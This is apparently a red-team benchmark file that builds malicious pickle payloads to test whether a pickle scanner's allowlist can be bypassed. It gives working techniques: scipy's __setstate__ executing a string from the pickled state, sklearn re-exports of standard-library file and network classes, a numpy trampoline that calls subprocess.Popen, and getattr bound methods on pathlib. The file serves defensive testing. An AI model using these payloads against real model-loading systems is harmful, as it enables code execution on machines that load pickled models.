"""Allowlisted names that run code: state-driven setstate, re-exports, bound methods.

The default allowlist matches by spelling (`scipy.stats.**:*_gen`,
`sklearn.**:[A-Z]*`...). Read from the libraries:
- scipy.stats' `rv_generic.__setstate__` calls `_attach_argparser_methods`,
  which `exec`s `self._parse_arg_template`, a string taken from the pickled state;
- scikit-learn modules import standard-library classes under capitalised names
  (`sklearn.datasets._base.NamedTemporaryFile`, `sklearn.datasets._covtype.GzipFile`,
  `sklearn.callback._transport.Client` = multiprocessing.connection.Client);
- numpy's `__generator_ctor(name, ctor)` calls `ctor(name)`: a trampoline that
  calls any callable it is handed, so the dangerous one is only imported.
- protocol 4 pickles bound methods as `getattr(obj, 'name')` (issue 12 item 5
  wants these resolved): the instance is allowlisted, the method is not.
"""

from __future__ import annotations

from benchmarks.redteam.pickles import (BUILD, EMPTY_TUPLE, MARK, NEWFALSE, NEWOBJ, NONE, PROTO2, PROTO4, STOP, TUPLE, call,
                                        dict_state, glob2, glob4, i, s)
from benchmarks.redteam.sample import PORT, PROC_ARGV, PY_PROC, Sample

F = "allowlisted"


def scipy_exec(cls: str = "norm_gen", module: str = "scipy.stats._continuous_distns") -> bytes:
    return PROTO2 + glob2(module, cls) + EMPTY_TUPLE + NEWOBJ + dict_state({"_parse_arg_template": s(PY_PROC)}) + BUILD + STOP


def reexport(module: str, name: str, *args: bytes) -> bytes:
    return PROTO4 + call(glob4(module, name), *args) + STOP


def trampoline(module: str, name: str) -> bytes:
    argv = MARK + b"".join(s(a) for a in PROC_ARGV) + TUPLE
    return PROTO4 + call(glob4("numpy.random._pickle", "__generator_ctor"), argv, glob4(module, name)) + STOP


def bound_method(cls_module: str, cls: str, ctor_arg: bytes, method: str, *args: bytes) -> bytes:
    obj = call(glob4(cls_module, cls), ctor_arg)
    return PROTO4 + call(call(glob4("builtins", "getattr"), obj, s(method)), *args) + STOP


def _p(data: bytes) -> dict[str, bytes]:
    return {"model.pkl": data}


SAMPLES = [
    Sample("scipy_rv_setstate_exec", F, "pickle.load", "process",
           "scipy.stats._continuous_distns.norm_gen (allowlisted as scipy.stats.**:*_gen): its __setstate__ execs "
           "_parse_arg_template from the pickled state", lambda: _p(scipy_exec()), fast=True),
    Sample("scipy_rv_setstate_exec_discrete", F, "joblib.load", "process",
           "the same through a discrete distribution (poisson_gen) loaded by joblib",
           lambda: {"model.joblib": scipy_exec("poisson_gen", "scipy.stats._discrete_distns")}),
    Sample("sklearn_reexport_namedtemporaryfile", F, "pickle.load", "file",
           "sklearn.datasets._base.NamedTemporaryFile is tempfile.NamedTemporaryFile under a capitalised sklearn name",
           lambda: _p(reexport("sklearn.datasets._base", "NamedTemporaryFile", s("w+b"), b"J\xff\xff\xff\xff",
                               NONE, NONE, s(""), s("pwned"), s("."), NEWFALSE)), fast=True),
    Sample("sklearn_reexport_gzipfile", F, "pickle.load", "file",
           "sklearn.datasets._covtype.GzipFile('pwned.gz', 'wb') creates a file",
           lambda: _p(reexport("sklearn.datasets._covtype", "GzipFile", s("pwned.gz"), s("wb")))),
    Sample("sklearn_reexport_mp_client", F, "pickle.load", "network",
           "sklearn.callback._transport.Client is multiprocessing.connection.Client: it connects to the address",
           lambda: _p(reexport("sklearn.callback._transport", "Client", MARK + s("127.0.0.1") + i(PORT) + TUPLE)), fast=True),
    Sample("numpy_generator_ctor_trampoline_popen", F, "pickle.load", "process",
           "numpy.random._pickle.__generator_ctor(argv, ctor) calls ctor(argv): subprocess.Popen is imported, never "
           "called by a REDUCE of its own", lambda: _p(trampoline("subprocess", "Popen"))),
    Sample("getattr_bound_method_path_touch", F, "pickle.load", "file",
           "getattr(pathlib.Path('pwned.file'), 'touch')(): a bound method of an allowlisted class, as protocol 4 "
           "pickles bound methods", lambda: _p(bound_method("pathlib", "PosixPath", s("pwned.file"), "touch"))),
    Sample("getattr_bound_method_path_write_text", F, "pickle.load", "file",
           "getattr(pathlib.Path('pwned.txt'), 'write_text')('x')",
           lambda: _p(bound_method("pathlib", "PosixPath", s("pwned.txt"), "write_text", s("x")))),
]
